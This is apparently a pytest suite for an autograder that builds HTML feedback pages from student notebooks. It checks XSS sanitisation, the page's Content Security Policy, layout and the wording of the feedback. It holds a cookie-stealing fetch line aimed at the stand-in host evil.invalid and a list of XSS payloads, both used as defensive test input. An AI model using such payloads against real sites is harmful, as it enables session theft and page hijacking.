"""The feedback page in a real browser: what it says, how it fits, and that nothing in it acts."""

from __future__ import annotations

import inspect
import re
import time
from html.parser import HTMLParser

import pytest
from browsing import chromium, opened
from markupsafe import escape
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from autograder.course import Course
from autograder.pages import feedback, safe_html
from autograder.pages.exercises import told
from autograder.pages.page import page
from cnncourse.checks import find
from cnncourse.layers.conv import loops

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)
RUN = "document.title='ran';fetch('http://evil.invalid/'+document.cookie)"
SCRIPT = f"<script>{RUN}</script>"
HOSTILE = [
    SCRIPT,
    f"text {SCRIPT} text",
    f'<img src=x onerror="{RUN}">',
    f'text <img src="http://evil.invalid/p.png" onload="{RUN}"> ![pixel](http://evil.invalid/q.png)',
    "![svg](attachment:a.svg) ![png](attachment:b.png) ![no](attachment:nothing.png)",
    f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}">x</a></svg>',
    f'<details open ontoggle="{RUN}"><summary onfocus="{RUN}" autofocus>s</summary></details>',
    '<iframe src="http://evil.invalid/"></iframe><object data="http://evil.invalid/"></object>',
    '<embed src="http://evil.invalid/"><video src="http://evil.invalid/v" autoplay></video>',
    '<link rel="stylesheet" href="http://evil.invalid/s.css"><base href="http://evil.invalid/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
    "<style>@import 'http://evil.invalid/s.css'; main { display: none }</style>",
    '<p style="background:url(http://evil.invalid/b.png);position:fixed;top:0">covers</p>',
    f'<form action="//evil.invalid/"><input autofocus onfocus="{RUN}"><button>a</button></form>',
    f'[click](javascript:{RUN}) <a href="java&#10;script:{RUN}">b</a> [d](data:text/html,{SCRIPT})',
    f'<math><mtext></p><img src=x onerror="{RUN}"></mtext></math><template>{SCRIPT}</template>',
    f"$\\text{{{SCRIPT}}}$ and $\\href{{javascript:{RUN}}}{{x}}$ and $x^2$",
    f'$$\\class{{x" onmouseover="{RUN}}}{{y}}$$',
    f"<scr<script>ipt>{RUN}</scr</script>ipt> <!-- --!> {SCRIPT} --> <![CDATA[ {SCRIPT} ]]>",
    f"```html\n{SCRIPT}\n```\n\n    {SCRIPT}\n\n`{SCRIPT}`",
    f'"><{SCRIPT} </pre></main></body></html>{SCRIPT}',
    "<div><a title='\n\n$\\text{' style=position:fixed;inset:0 id=x x='}$\n\n<i a=''>20 of 20</i>",
    '<a href="#check-output_size" id="check-output_size" name="body" target="_top">anchor</a>',
]
MESSAGE = """output_size: 3 of 7 cases pass.
  Called   output_size(size, kernel_size, stride=2)
  Problem  it returned 7, which is wrong
  Line     line 3 of the cell, in output_size: return size // stride
  Mistake  The last + 1 is missing.
  Hint     Count the first position, too.
  Passed   plain 3/4, all together 0/3"""


def score(name, points, of, message, review=None):
    passed = points == of
    return dict(points=points, of=of, passed=passed, message=message, review=review)


def mark(cell, **fields):
    cell.metadata["nbgrader"] = {"schema_version": 3, "locked": False, **fields}
    return cell


def student_page(texts=(), *, scores=None, extra=(), late=0.0, reason=None, repairs=(), **check):
    """A page with one exercise, whose texts come from a student."""
    answer = new_code_cell("\n".join(["def output_size():", *texts]), outputs=list(extra))
    cells = [
        new_markdown_cell("# Title\n\nRead this."),
        new_markdown_cell("## 1. Count\n\nHow many? $D\\,(K - 1) + 1$\n\n$$\nout[i, j]\n$$"),
        mark(answer, grade_id="solution_output_size", solution=True, grade=False, comment=""),
        mark(
            new_code_cell('check("output_size")'),
            **{
                "grade_id": "output_size",
                "solution": False,
                "grade": True,
                "score": 1.5,
                "points": 2.0,
                "by_person": False,
                "waiting": False,
                **check,
            },
        ),
        *[new_markdown_cell(text, id=f"extra_{i}") for i, text in enumerate(texts)],
    ]
    for cell in cells:
        if cell.id.startswith("extra_"):
            cell.attachments = {
                "a.svg": {"image/svg+xml": f"<svg onload='{RUN}'>"},
                "b.png": {"image/png": PIXEL},
            }
    known = {
        "title": "Demo",
        "scores": scores or {"output_size": score("output_size", 1.5, 2.0, MESSAGE)},
        "repairs": list(repairs),
        "reason": reason,
        "seed": 987654321,
    }
    fields = {"student": "ann", "assignment": "01_demo", "score": 1.5 - late, "max_score": 2.0}
    notebook = new_notebook(cells=cells, metadata={"cnncourse": known})
    return notebook, {**fields, "late_penalty": late}


@pytest.fixture(scope="module")
def browser():
    with chromium() as started:
        yield started


@pytest.fixture
def visit(browser, tmp_path):
    def open_text(text, **options):
        path = tmp_path / "page.html"
        path.write_text(text, encoding="utf-8")
        return opened(browser, path.as_uri(), **options)

    return open_text


def hostile_page():
    outputs = [
        new_output("stream", name="stdout", text=SCRIPT),
        new_output("display_data", data={"text/html": SCRIPT, "text/plain": f"plain {SCRIPT}"}),
        new_output("display_data", data={"image/svg+xml": f"<svg onload='{RUN}'></svg>"}),
        new_output("display_data", data={"application/javascript": RUN}),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"a": 1}}),
        new_output("display_data", data={"text/latex": f"${SCRIPT}$", "text/markdown": SCRIPT}),
        new_output("display_data", data={"image/png": f'x" onerror="{RUN}'}),
        new_output("display_data", data={"image/png": PIXEL, "text/html": SCRIPT}),
        new_output("error", ename=f"Bad{SCRIPT}", evalue=SCRIPT, traceback=[SCRIPT, "Traceback"]),
    ]
    message = MESSAGE.replace("it returned 7", f"it raised Bad{SCRIPT}: {SCRIPT}")
    notebook, resources = student_page(
        HOSTILE,
        scores={"output_size": score("output_size", 0, 2.0, message)},
        extra=outputs,
        repairs=[f"The cell {SCRIPT} is missing."],
        comment=SCRIPT,
    )
    notebook.cells[2].metadata["nbgrader"]["comment"] = f"Well done! {SCRIPT}"
    notebook.metadata["cnncourse"]["title"] = f"Demo {SCRIPT}"
    return page(notebook, {**resources, "student": f"ann{SCRIPT}"})


def test_nothing_of_a_student_acts(visit):
    with visit(hostile_page()) as (page, problems):
        page.mouse.move(300, 300)
        for details in page.locator("details > summary").all():
            details.click()
        page.wait_for_timeout(200)
        assert problems == []  # the policy of the page had nothing to refuse, either
        assert page.title().startswith("Demo <script>") and "ran" != page.title()
        assert page.locator("script, iframe, object, embed, link, base, form, svg").count() == 0
        handlers = """() => [...document.querySelectorAll("*")].flatMap(e =>
            e.getAttributeNames().filter(n => n.startsWith("on") || n === "style" || n === "id")
            .map(n => n + "=" + e.getAttribute(n)))"""
        assert page.evaluate(handlers) == ["id=top", "id=check-output_size"]
        hrefs = page.evaluate("[...document.links].map(a => a.href.split('#')[1])")
        assert set(hrefs) == {"check-output_size", "top"}
        pictures = "[...document.images].map(i => [i.src.slice(0, 22), i.naturalWidth])"
        shown = [source for source in page.evaluate(pictures) if source[0]]
        assert shown == [["data:image/png;base64,", 1]] * 2  # an output and an attachment
        text = page.locator("main").inner_text()
        assert f"Bad{SCRIPT}: {SCRIPT}" in text  # it is there, as text
        assert "Well done!" in text and "Traceback" not in text


def test_the_policy_is_a_second_wall(visit):
    """A script that came through, and a picture from elsewhere, would be stopped all the same."""
    holed = hostile_page().replace("<main>", f"{SCRIPT}<img src='http://evil.invalid/'><main>")
    with visit(holed) as (page, problems):
        page.wait_for_timeout(100)
        assert page.title() != "ran"
        assert problems and all("Content Security Policy" in problem for problem in problems)


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_the_page_fits_and_is_read_without_scrolling_sideways(visit, width, theme):
    text, *_ = "x" * 300, None
    notebook, resources = student_page(["a = 1  # " + text], repairs=["The cell " + text])
    with visit(page(notebook, resources), width=width, theme=theme) as (shown, problems):
        for details in shown.locator("details > summary").all():
            details.click()
        assert shown.evaluate("document.scrollingElement.scrollWidth") <= width
        assert shown.locator("math").count() == 2 and "$" not in shown.locator("main").inner_text()
        assert problems == []
        ratio = shown.evaluate(CONTRAST)
        assert ratio >= 4.5, f"the text is hard to read: {ratio:.1f} : 1"


CONTRAST = """() => {
  const paint = document.createElement('canvas').getContext('2d', {willReadFrequently: true});
  const light = colour => {
    paint.fillStyle = colour; paint.fillRect(0, 0, 1, 1);
    const [r, g, b] = [...paint.getImageData(0, 0, 1, 1).data].slice(0, 3)
      .map(v => v / 255).map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const behind = e => {
    for (; e; e = e.parentElement) {
      const colour = getComputedStyle(e).backgroundColor;
      if (colour !== 'rgba(0, 0, 0, 0)') return colour;
    }
  };
  return Math.min(...[...document.querySelectorAll('main *')]
    .filter(e => [...e.childNodes].some(n => n.nodeType === 3 && n.data.trim()))
    .map(e => [light(getComputedStyle(e).color), light(behind(e))])
    .map(([a, b]) => (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)));
}"""


def test_the_page_says_each_thing_once(visit):
    notebook, resources = student_page(["    return 1"], late=0.5, repairs=["One was mended."])
    notebook.cells[2].metadata["nbgrader"]["comment"] = "Look at **padding** again."
    with visit(page(notebook, resources)) as (shown, problems):
        text = shown.locator("main").inner_text()
        for sentence in (
            "Feedback for ann",
            "1 of 2 points",
            "Handed in late: 0.5 points were taken off the 1.5 below.",
            "One was mended.",
            "output_size(size, kernel_size, stride=2)",
            "It returned 7, which is wrong",
            "line 3 of the cell",
            "The last + 1 is missing.",
            "Count the first position, too.",
            "3 of 7 cases pass.",
            "all together 0/3",
            "Look at padding again.",
            "right in part",
        ):
            assert text.count(sentence) == 1, sentence
        assert "987654321" not in shown.content()
        shown.click("text=output_size >> nth=0")
        assert shown.url.endswith("#check-output_size") and problems == []


def test_what_a_person_did_and_will_do_is_said(visit):
    waiting = score("output_size", 0, 2.0, "Not graded: it broke.", review="it broke")
    notebook, resources = student_page(scores={"output_size": waiting}, score=0.0, waiting=True)
    with visit(page(notebook, resources)) as (shown, _):
        text = shown.locator("main").inner_text()
        assert "A person will look at" in text and text.count("it broke") == 1
    notebook, resources = student_page(score=2.0, by_person=True)
    with visit(page(notebook, resources)) as (shown, _):
        text = shown.locator("main").inner_text()
        assert "right, by a person" in text and "These points were set by a person." in text


def test_a_refused_submission_says_the_reason_once(visit):
    known = score("output_size", 0, 2.0, "Not graded: it is empty.", review="it is empty")
    notebook, resources = student_page(
        scores={"output_size": known}, reason="it is empty", score=0.0, waiting=True
    )
    notebook.cells = [
        cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade")
    ]
    with visit(page(notebook, {**resources, "score": 0.0})) as (shown, problems):
        text = shown.locator("main").inner_text()
        assert "could not be graded" in text and text.count("it is empty") == 1
        assert "output_size" in text and problems == []


def test_what_to_mend_first_is_said():
    """Only where the earlier function is called, and is not right."""
    source = "def padded():\n    return output_size()"

    def text(source, points=1.5):
        notebook, resources = student_page(score=points)
        answer = mark(new_code_cell(source), grade_id="solution_padded", solution=True)
        check = mark(new_code_cell("check"), grade_id="padded", grade=True, score=0, points=1)
        notebook.cells += [answer, check]
        return page(notebook, resources)

    told = "Mend output_size: this function calls it, and it is not right yet."
    assert text(source).count(told) == 1
    assert told not in text(source, points=2.0) and told not in text("def padded(): pass")
    assert told not in text(source + " output_size(")


@pytest.mark.parametrize(
    "message",
    [
        MESSAGE.replace("line 3 of the cell, in output_size", "line 9 of the cell, in crop"),
        "padded: no points, nothing was called.\n  Problem  it calls `crop`, which uses `a`.",
    ],
)
def test_of_several_to_mend_the_one_in_which_the_error_lies_comes_first(message):
    notebook, resources = student_page(score=0.0)
    for name, source in (("crop", "def crop(): pass"), ("padded", "output_size(), crop()")):
        answer = mark(new_code_cell(source), grade_id=f"solution_{name}", solution=True)
        check = mark(new_code_cell("check"), grade_id=name, grade=True, score=0, points=1)
        notebook.cells += [answer, check]
    judged = notebook.metadata["cnncourse"]["scores"]
    judged["padded"] = score("padded", 0, 1.0, message)
    text = page(notebook, resources)
    assert "Mend crop: this function calls it" in text and "Mend output_size" not in text


def test_what_is_right_is_folded_below_its_verdict(visit):
    notebook, resources = student_page(score=2.0)
    notebook.cells[2].metadata["nbgrader"]["comment"] = "Look at **padding** again."
    with visit(page(notebook, resources)) as (shown, _):
        text = shown.locator("main").inner_text()
        assert "1. Count" in text and "3 of 7 cases pass" in text and "padding again" in text
        assert "How many?" not in text and "def output_size" not in text
        shown.click("details.done > summary")
        text = shown.locator("main").inner_text()
        assert text.count("How many?") == 1 and text.count("def output_size") == 1
    for options in ({"score": 1.5}, {"score": 2.0, "waiting": True}):
        assert 'class="done"' not in page(*student_page(**options))


def test_the_docstring_that_was_released_is_folded():
    source = inspect.getsource(loops.output_size)
    notebook, resources = student_page()
    notebook.cells[2].source = source
    resources["assignment"] = find("output_size").assignment
    assert page(notebook, resources).count('<details class="docstring">') == 1
    notebook.cells[2].source = source.replace('"""', '"""My own: ', 1)
    assert '<details class="docstring">' not in page(notebook, resources)
    notebook.cells[2].source, resources["assignment"] = source, "01_demo"
    assert '<details class="docstring">' not in page(notebook, resources)


NONE = "No points without the plain cases: everything else rests on them."
SHARE = "A group of cases gives its share of the points when all of them pass."


@pytest.mark.parametrize(
    ("points", "passed", "more", "told"),
    [
        (0.0, "plain 3/4, all together 0/3", {}, NONE),
        (1.5, "all together 0/3, plain 4/4", {}, SHARE),
        (0.0, "plain 0/4, all together 0/3", {}, None),
        (2.0, "plain 4/4, all together 3/3", {}, None),
        (0.0, "plain 3/4, all together 0/3", {"by_person": True}, None),
    ],
)
def test_how_points_come_about_is_said_where_it_matters(points, passed, more, told):
    message = MESSAGE.replace("plain 3/4, all together 0/3", passed)
    judged = {"output_size": score("output_size", points, 2.0, message)}
    text = page(*student_page(scores=judged, score=points, **more))
    assert [sentence for sentence in (NONE, SHARE) if sentence in text] == ([told] if told else [])


def test_extra_credit_is_called_so(visit):
    """nbgrader counts it in the score."""
    with visit(page(*student_page(score=0.5, extra_credit=0.5))) as (shown, _):
        text = shown.locator("main").inner_text()
        assert "not yet\t0\xa0/\xa02 and 0.5 for extra credit" in text and "in part" not in text


def test_other_numbers_than_in_the_notebook_are_told_of_once():
    told = "calls your functions with other numbers than the check in your notebook"
    assert page(*student_page()).count(told) == 1
    right = score("output_size", 2.0, 2.0, "output_size: all 7 cases pass.")
    assert told not in page(*student_page(scores={"output_size": right}, score=2.0))


def test_an_assignment_with_tests_of_nbgraders_own_is_shown_with_their_outputs():
    notebook, resources = student_page()
    notebook.metadata.clear()
    notebook.cells[3].outputs = [new_output("error", ename="Wrong", evalue="not 3", traceback=[])]
    text = page(notebook, resources)
    assert "Wrong: not 3" in text and "<h1>01_demo</h1>" in text and "1.5&nbsp;/&nbsp;2" in text


def test_a_message_is_taken_apart():
    headline, entries = told(MESSAGE)
    assert headline == "output_size: 3 of 7 cases pass."
    assert dict(entries)["Passed"] == [("plain", 3, 4), ("all together", 0, 3)]
    assert [title for title, _ in entries] == re.findall(r"^  (\w+)", MESSAGE, re.MULTILINE)
    assert told("pad2d: no function of this name was left.") == (
        "pad2d: no function of this name was left.",
        [],
    )


@pytest.mark.parametrize(
    "problem", ["out differs first at index (0,)", "dense is a str", "`x` calls `y`", "it is no."]
)
def test_names_keep_their_letters(problem):
    _, entries = told(MESSAGE.replace("it returned 7, which is wrong", problem))
    assert dict(entries)["Problem"] == problem.replace("it is", "It is")
    _, entries = told(MESSAGE.replace("The last + 1 is missing.", "b is used. Or: W is not."))
    assert dict(entries)["Mistake"] == ["b is used.", "W is not."]


def test_code_in_a_sentence_and_two_guesses(visit):
    message = MESSAGE.replace("The last + 1 is missing.", "`/` gives `<b>`. Or: np.floor rounds.")
    notebook, resources = student_page(scores={"output_size": score("output_size", 0, 2, message)})
    with visit(page(notebook, resources)) as (shown, _):
        guesses = shown.locator("dd.mistake p").all_inner_texts()
        assert guesses == ["/ gives <b>.", "Or: np.floor rounds."]
        assert shown.locator("dd.mistake code").all_inner_texts() == ["/", "<b>"]


@pytest.mark.parametrize(
    "text",
    ["<div>" * 1000, ">" * 5000, "[" * 5000, "$" * 5001, "*a " * 5000, "\ud800", "x" * 200_000]
    + ["$" + "\\frac{" * 500 + "$", "formula-0." * 100, "&#xE000;0"],
)
def test_strange_text_stops_nothing(text):
    assert isinstance(safe_html.markdown(text), str)


def test_what_is_no_text_for_a_reader_is_left_out():
    assert safe_html.markdown(f"one {SCRIPT} two <style>p {{}}</style> three") == (
        "<p>one  two  three</p>\n"
    )


def test_a_formula_that_is_not_known_is_shown_as_it_was_written():
    assert '<math display="block">' in safe_html.markdown(r"$$\frac{H + 2p - K}{s}$$")
    for tex in (r"\nothing{<b>}", r"\hspace{-2000px}x"):
        assert f"<code>{escape(tex)}</code>" in safe_html.markdown(f"${tex}$")


FORGED = (
    "' onmouseover=alert(1) style=position:fixed;inset:0;background:#fff id=top class=check x='"
)


class Attributes(HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.names = set()
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.names |= {name for name, value in attrs}


@pytest.mark.parametrize("quote", ["'", '"', ""])
@pytest.mark.parametrize("begin", ["<a title=", "<img alt=", "<a href=#", "<div class=", "<!-- "])
def test_a_formula_inside_a_tag_stays_there(begin, quote):
    tex = f"$\\text{{{FORGED.replace(chr(39), quote)}}}$"
    html = safe_html.markdown(f"<div>{begin}{quote}\n\n{tex}\n\n{quote}>full marks</div>")
    assert Attributes(html).names <= {"href", "alt", "src", "display"}
    assert Attributes("<b/onclick=a>").names == {"onclick"}


def test_text_that_runs_backwards_and_a_repeated_picture_are_left_out():
    assert safe_html.markdown("a\u202eb &#x202E; &#8238; <b>\u2066c</b>") == "<p>ab   c</p>\n"
    picture = {"b c.png": {"image/png": PIXEL}}
    assert safe_html.markdown("![x](<attachment:b c.png>)" * 9, picture).count(PIXEL) == 1


@pytest.mark.parametrize(
    "piece",
    [
        "[a]: b\n",
        "[a]:\n",
        "> [a]: b\n",
        "[^a]: b\n",
        "|-\n",
        "a|\n-|\n",
        "<ul><li>",
        "* a\n\n",
        "$a$",
    ]
    + ["<div>", "[*", "*a_ ", "1) a\n\n", '"', "`" * 99 + " ", "<script", "<img src=", "$\\sqrt{"],
)
def test_no_cell_takes_long(piece):
    """As much as one cell holds, and as much as is rendered: on this page it takes a moment."""
    pieces = 20_000 // len(piece)
    rendered = next(
        n for n in range(pieces, 0, -1) if safe_html.weight(piece * n) <= safe_html.HEAVIEST
    )
    for text in (piece * pieces, piece * rendered, piece * min(safe_html.REFERENCES, rendered)):
        begun = time.process_time()
        assert len(safe_html.markdown(text)) < 500_000
        assert time.process_time() - begun < 2


def test_a_table_is_as_wide_as_its_head_in_every_row():
    def table(columns, rows):
        return "|a" * columns + "\n" + "|-" * columns + "\n" + "|b\n" * rows

    assert "<table>" in safe_html.markdown(table(columns=20, rows=40))
    for text in (table(100, 600), "text\n\n" + table(60, 60), "> |a\n> " * 9 + table(90, 90)):
        assert "<table>" not in safe_html.markdown(text) and "|-|-" in safe_html.markdown(text)


@pytest.mark.parametrize("code", ["match " + " " * 90_000, "a = 1\n" * 33_000, "(" * 2_000])
def test_code_longer_than_a_person_writes_is_not_coloured(code):
    begun = time.process_time()
    assert safe_html.code(f"<b>{code}") == f"&lt;b&gt;{code}"
    assert time.process_time() - begun < 2
    assert "<span" in safe_html.code("a = 1")


def test_a_students_text_stays_in_its_labelled_box(visit):
    forged = (
        "<h1>Demo</h1>\n\n**2 of 2 points** $\\hspace{-99em}\\text{full marks}$\n\n</div></article>"
    )
    notebook, resources = student_page([f"    ## {forged}", "<div>" * 300 + "deep", "a " * 3000])
    notebook.cells[-3].source = "    ## " + forged.replace("\n", "\n    ")
    text = page(notebook, resources)
    assert "\u202e" not in page(*student_page(["'''\u202e'''"], repairs=["\u202ea"]))
    with visit(text) as (shown, problems):
        boxes = shown.locator("article.own")
        assert boxes.count() == 3 and boxes.locator("h1, h2").count() == 2
        assert boxes.locator(".label").all_inner_texts() == ["Your own text"] * 3
        styles = boxes.evaluate_all("all => all.map(e => getComputedStyle(e).contain)")
        assert all("paint" in style and "layout" in style or style == "content" for style in styles)
        assert problems == []


def test_a_page_of_many_heavy_cells_is_short():
    heavy = "$x$" * (safe_html.HEAVIEST // 17)
    notebook, resources = student_page([heavy + str(i) for i in range(40)])
    for cell in notebook.cells[-20:]:
        cell.cell_type, cell.outputs = "code", []
        cell.source = f"a = {cell.source[-9:]!r}\n" + "b = 1\n" * 3000
    begun = time.process_time()
    text = page(notebook, resources)
    assert time.process_time() - begun < 5
    assert text.count("<math") < 4 * len(heavy) / 3 + 10 and len(text) < 3_000_000
    assert text.count("How many?") == 1 and "$x$$x$" in text  # the others are shown as typed


def test_a_folder_whose_name_is_a_pattern_is_passed_over(tmp_path, monkeypatch, capsys):
    """nbgrader warns and goes on; so does the command, and says it."""
    for folder, end in (("autograded", "ipynb"), ("feedback", "html")):
        for name in ("ann", "[b]ob") if end == "ipynb" else ("ann",):
            (tmp_path / folder / name / "01_demo").mkdir(parents=True)
            (tmp_path / folder / name / "01_demo" / f"01_demo.{end}").touch()

    class Api:
        def generate_feedback(self, assignment, force):
            return {"success": True}

    monkeypatch.setattr(feedback, "nbgrader_api", lambda course: Api())
    monkeypatch.setattr(feedback, "require", lambda course, assignment: None)
    pages = feedback.write_feedback(Course(tmp_path), "01_demo")
    assert [page.parts[-3] for page in pages] == ["ann"]
    assert "01_demo: no page for '[b]ob': the name" in capsys.readouterr().err
